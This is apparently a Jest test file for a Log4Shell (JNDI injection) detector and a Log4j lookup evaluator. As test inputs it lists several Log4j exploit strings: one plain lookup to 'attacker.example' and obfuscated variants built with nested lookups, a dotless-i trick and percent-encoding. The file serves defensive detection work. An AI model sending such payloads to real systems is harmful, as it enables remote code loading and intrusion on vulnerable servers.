import { detectJndiInjection } from './jndiInjectionDetector';
import { evaluateLookups } from './lookupEvaluator';

describe('evaluateLookups', () => {
  it.each([
    ['${lower:J}', 'j'],
    ['${upper:x}', 'X'],
    ['${::-j}', 'j'],
    ['${env:NOPE:-n}', 'n'],
    ["${date:'d'}", 'd'],
    ['${${::-${::-$${::-i}}}}', '${i}'],
    ['a${VAR}b', 'a${VAR}b'],
  ])('%s spells %s', (value, text) => {
    expect(evaluateLookups(value).text).toBe(text);
  });

  it('stays bounded on deep nesting', () => {
    const deep = `${'${lower:'.repeat(5000)}j${'}'.repeat(5000)}`;
    expect(() => evaluateLookups(deep)).not.toThrow();
  });
});

describe('detectJndiInjection', () => {
  it('reports a plain lookup with its scheme and host', () => {
    const m = detectJndiInjection('${jndi:ldap://attacker.example/a}');
    expect(m?.fingerprint).toBe('jndi:ldap');
    expect(m?.reason).toBe('JNDI lookup over ldap to attacker.example');
    expect(m?.confidence).toBeGreaterThanOrEqual(0.95);
  });

  it.each([
    '${${lower:j}ndi:ldap://x.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}',
    "${${date:'j'}ndi:dns://x.example}",
    '${jnd${upper:ı}:ldap://x.example/a}',
  ])('resolves the nesting in %s', (value) => {
    const m = detectJndiInjection(value);
    expect(m?.fingerprint).toMatch(/^jndi:(ldap|rmi|dns)\+obfuscated$/);
  });

  it('undoes percent-encoding leftovers', () => {
    expect(detectJndiInjection('%24%7Bjndi:ldap://x.example/a%7D')?.fingerprint).toBe('jndi:ldap+encoded');
  });

  it('reports Log4j-only lookups weakly', () => {
    expect(detectJndiInjection('${java:version}')?.confidence).toBeLessThan(0.6);
  });

  it.each(['${name}', '$5.00', '${env:STAGE}', '${VAR:-default}', 'java:comp/env/jdbc/ds', 'Jennifer', '${{ secrets.TOKEN }}'])('leaves %s alone', (value) => {
    expect(detectJndiInjection(value)).toBeUndefined();
  });
});
